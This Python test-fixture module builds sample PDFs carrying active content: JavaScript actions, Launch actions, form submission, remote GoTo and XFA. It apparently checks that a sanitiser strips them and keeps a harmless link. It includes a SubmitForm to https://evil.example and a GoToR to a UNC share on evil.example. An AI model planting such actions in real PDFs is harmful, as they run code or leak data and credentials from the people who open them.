"""PDFs carrying each kind of active content, built at test time with pyHanko's writer on
top of a plain reportlab page (text "Active content test page", which must survive)."""

from __future__ import annotations

import io
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PdfFileWriter, copy_into_new_writer
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

PAGE_TEXT = "Active content test page"
# Every script and target below contains this: none may be left in a stripped file.
MARKER = "sfmarker"
KEPT_LINK = "https://example.com/kept-link"


def N(name: str) -> generic.NameObject:
    return generic.NameObject(name)


def D(**entries: generic.PdfObject) -> generic.DictionaryObject:
    return generic.DictionaryObject({N(f"/{key}"): value for key, value in entries.items()})


def text(value: str) -> generic.TextStringObject:
    return generic.TextStringObject(value)


def js(code: str = f"app.alert('{MARKER}')") -> generic.DictionaryObject:
    return D(Type=N("/Action"), S=N("/JavaScript"), JS=text(code))


def base_page() -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4, invariant=True)
    canvas.setFont("Helvetica", 14)
    canvas.drawString(72, 760, PAGE_TEXT)
    canvas.rect(72, 600, 200, 40)
    canvas.showPage()
    canvas.save()
    return out.getvalue()


def _writer() -> PdfFileWriter:
    return copy_into_new_writer(PdfFileReader(io.BytesIO(base_page())))


def _page(writer: PdfFileWriter) -> generic.DictionaryObject:
    page: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][0].get_object()
    return page


def _bytes(writer: PdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _annotate(
    writer: PdfFileWriter, annotation: generic.DictionaryObject
) -> generic.IndirectObject:
    page = _page(writer)
    annotation[N("/Type")] = N("/Annot")
    annotation.setdefault(N("/Subtype"), N("/Link"))
    annotation.setdefault(
        N("/Rect"), generic.ArrayObject([generic.NumberObject(n) for n in (72, 600, 272, 640)])
    )
    annotation[N("/Border")] = generic.ArrayObject([generic.NumberObject(0)] * 3)
    annotation[N("/P")] = writer.root["/Pages"]["/Kids"].raw_get(0)
    reference = writer.add_object(annotation)
    annots = page.get("/Annots")
    if annots is None:
        page[N("/Annots")] = generic.ArrayObject([reference])
    else:
        annots.get_object().append(reference)
    return reference


def _link(writer: PdfFileWriter, action: generic.DictionaryObject) -> None:
    _annotate(writer, D(Subtype=N("/Link"), A=writer.add_object(action)))


def _field(writer: PdfFileWriter, **entries: generic.PdfObject) -> None:
    """A text field whose widget is its own annotation on the page."""
    widget = D(
        Subtype=N("/Widget"),
        FT=N("/Tx"),
        T=text("name"),
        V=text(""),
        **entries,
    )
    reference = _annotate(writer, widget)
    writer.root[N("/AcroForm")] = D(Fields=generic.ArrayObject([reference]))


def document_javascript() -> bytes:
    writer = _writer()
    tree = D(Names=generic.ArrayObject([text("init"), writer.add_object(js())]))
    writer.root[N("/Names")] = D(JavaScript=tree)
    return _bytes(writer)


def open_action_javascript() -> bytes:
    writer = _writer()
    writer.root[N("/OpenAction")] = writer.add_object(js())
    return _bytes(writer)


def open_action_launch() -> bytes:
    writer = _writer()
    launch = D(S=N("/Launch"), F=text(f"C:\\Windows\\System32\\{MARKER}.exe"))
    writer.root[N("/OpenAction")] = launch
    return _bytes(writer)


def launch_link() -> bytes:
    writer = _writer()
    _link(
        writer, D(S=N("/Launch"), F=text(f"/bin/{MARKER}"), NewWindow=generic.BooleanObject(True))
    )
    return _bytes(writer)


def document_additional_actions() -> bytes:
    writer = _writer()
    writer.root[N("/AA")] = D(WC=js(), WP=js())  # before closing, before printing
    return _bytes(writer)


def page_additional_actions() -> bytes:
    writer = _writer()
    _page(writer)[N("/AA")] = D(O=js(), C=js())  # page open, page close
    return _bytes(writer)


def annotation_additional_actions() -> bytes:
    writer = _writer()
    goto = D(S=N("/GoTo"), D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]))
    _annotate(writer, D(Subtype=N("/Link"), A=goto, AA=D(E=js())))  # mouse enters
    return _bytes(writer)


def field_additional_actions() -> bytes:
    writer = _writer()
    _field(writer, AA=D(K=js(f"AFNumber_Keystroke(2,0,0,0,'{MARKER}',true);"), F=js()))
    return _bytes(writer)


def submit_form() -> bytes:
    writer = _writer()
    submit = D(S=N("/SubmitForm"), F=D(FS=N("/URL"), F=text(f"https://evil.example/{MARKER}")))
    _field(writer, A=submit)
    return _bytes(writer)


def import_data() -> bytes:
    writer = _writer()
    _field(writer, A=D(S=N("/ImportData"), F=text(f"{MARKER}.fdf")))
    return _bytes(writer)


def goto_remote() -> bytes:
    writer = _writer()
    target = D(S=N("/GoToR"), F=text(f"\\\\evil.example\\share\\{MARKER}.pdf"))
    target[N("/D")] = generic.ArrayObject([generic.NumberObject(0), N("/Fit")])
    _link(writer, target)
    return _bytes(writer)


def chained_javascript() -> bytes:
    """A harmless link whose /Next runs a script."""
    writer = _writer()
    goto = D(S=N("/GoTo"), D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]))
    goto[N("/Next")] = writer.add_object(js())
    _link(writer, goto)
    return _bytes(writer)


def javascript_uri() -> bytes:
    writer = _writer()
    _link(writer, D(S=N("/URI"), URI=text(f"javascript:{MARKER}()")))
    return _bytes(writer)


def xfa_form() -> bytes:
    writer = _writer()
    _field(writer)
    template = generic.StreamObject(stream_data=f"<xdp><script>{MARKER}</script></xdp>".encode())
    writer.root["/AcroForm"][N("/XFA")] = writer.add_object(template)
    return _bytes(writer)


def harmless_navigation() -> bytes:
    """What is kept: an http(s) link, an internal link, opening at a page, a bookmark."""
    writer = _writer()
    _link(writer, D(S=N("/URI"), URI=text(KEPT_LINK)))
    _link(writer, D(S=N("/GoTo"), D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")])))
    page = writer.root["/Pages"]["/Kids"][0]
    writer.root[N("/OpenAction")] = generic.ArrayObject([page, N("/Fit")])
    return _bytes(writer)


def everything() -> bytes:
    """Every kind at once, plus the harmless link that must stay."""
    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(harmless_navigation())))
    writer.root[N("/Names")] = D(JavaScript=D(Names=generic.ArrayObject([text("i"), js()])))
    writer.root[N("/OpenAction")] = writer.add_object(js())
    writer.root[N("/AA")] = D(WC=js())
    _page(writer)[N("/AA")] = D(O=js())
    _link(writer, D(S=N("/Launch"), F=text(f"/bin/{MARKER}")))
    _link(
        writer,
        D(
            S=N("/GoToR"),
            F=text(f"{MARKER}.pdf"),
            D=generic.ArrayObject([generic.NumberObject(0), N("/Fit")]),
        ),
    )
    _field(writer, AA=D(K=js()), A=D(S=N("/SubmitForm"), F=text(f"https://evil.example/{MARKER}")))
    return _bytes(writer)


# Each builder and the kinds intake must report for it.
ACTIVE: dict[str, tuple[Callable[[], bytes], tuple[str, ...]]] = {
    "document JavaScript": (document_javascript, ("/JavaScript",)),
    "OpenAction JavaScript": (open_action_javascript, ("/JavaScript", "/OpenAction")),
    "OpenAction Launch": (open_action_launch, ("/Launch", "/OpenAction")),
    "Launch link": (launch_link, ("/Launch",)),
    "document AA": (document_additional_actions, ("/AA", "/JavaScript")),
    "page AA": (page_additional_actions, ("/AA", "/JavaScript")),
    "annotation AA": (annotation_additional_actions, ("/AA", "/JavaScript")),
    "field AA": (field_additional_actions, ("/AA", "/JavaScript")),
    "SubmitForm": (submit_form, ("/SubmitForm",)),
    "ImportData": (import_data, ("/ImportData",)),
    "GoToR": (goto_remote, ("/GoToR",)),
    "chained JavaScript": (chained_javascript, ("/JavaScript",)),
    "javascript: URI": (javascript_uri, ("/URI (unsafe scheme)",)),
    "XFA": (xfa_form, ("/XFA",)),
}
EVERYTHING = (
    "/AA",
    "/GoToR",
    "/JavaScript",
    "/Launch",
    "/OpenAction",
    "/SubmitForm",
)


def uri_targets(pdf: bytes) -> list[str]:
    """The /URI of every link annotation on the first page."""
    page = PdfFileReader(io.BytesIO(pdf)).root["/Pages"]["/Kids"][0]
    targets = []
    annotations = page["/Annots"] if "/Annots" in page else generic.ArrayObject()
    for item in annotations:
        annotation = item.get_object()
        # Not .get(): pyHanko's get() answers the reference, [] the object.
        action = annotation["/A"] if "/A" in annotation else None  # noqa: SIM401
        if action is not None and action["/S"] == "/URI":
            value = action["/URI"]
            targets.append(bytes(value).decode() if isinstance(value, bytes) else str(value))
    return targets
